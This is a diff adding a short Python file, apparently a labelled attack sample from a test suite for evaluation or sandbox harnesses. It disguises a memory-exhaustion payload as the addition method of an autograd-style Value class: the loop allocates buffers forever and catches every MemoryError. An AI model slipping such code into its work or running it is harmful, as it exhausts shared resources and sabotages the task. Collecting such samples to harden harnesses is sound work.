@@ -1,0 +1,20 @@
+# attack: takes ever more memory and catches the refusal
+# family: resources
+# outcomes: none
+# earns: none
+
+
+class Value:
+    def __init__(self, data):
+        self.data, self.grad = data, 0.0
+
+    def __repr__(self):
+        return f"Value(data={self.data})"
+
+    def __add__(self, other):
+        kept = []
+        while True:
+            try:
+                kept.append(bytearray(1 << 22))
+            except MemoryError:
+                continue
